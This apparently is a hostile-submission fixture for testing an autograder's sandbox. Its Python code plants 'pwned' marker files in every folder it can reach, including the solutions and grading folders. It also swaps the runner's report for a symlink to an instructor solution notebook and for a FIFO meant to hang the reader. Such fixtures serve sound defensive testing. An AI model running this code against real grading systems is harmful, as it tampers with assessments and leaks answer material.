# Tries to leave a file in every folder it can name: the repository (through the editable
# finder and sys.path), the submissions, the gradebook's folder, the root of the system.
import os
import sys

folders = {"/", "/work", "@REPO_ROOT@", "@REPO_ROOT@/solutions/linear_fit",
           "@REPO_ROOT@/autograder", "@REPO_ROOT@/_build/grading", os.path.dirname(os.getcwd())}
for entry in sys.path:
    folders.add(os.path.abspath(entry or "."))
for module in list(sys.modules.values()):
    mapping = getattr(module, "MAPPING", None)
    if isinstance(mapping, dict):
        for value in mapping.values():
            folders.update({os.path.dirname(value), os.path.dirname(os.path.dirname(value))})
    file = getattr(module, "__file__", None)
    if file:
        folders.add(os.path.dirname(file))
for folder in sorted(folders):
    try:
        with open(os.path.join(folder, "pwned-by-hostile-submission.txt"), "w") as handle:
            handle.write("pwned")
    except OSError:
        pass

NOOP

# Booby-trap the report the runner reads afterwards: a link to an instructor file, and in
# the working folder a FIFO, which would block a reader forever.
report = os.path.join(os.environ.get("TTT_REPORT_DIR", "."), "report.jsonl")
for path in (report, "report.jsonl"):
    try:
        os.remove(path)
    except OSError:
        pass
os.symlink("@REPO_ROOT@/solutions/linear_fit/linear_fit.ipynb", report)
os.mkfifo("report.jsonl")
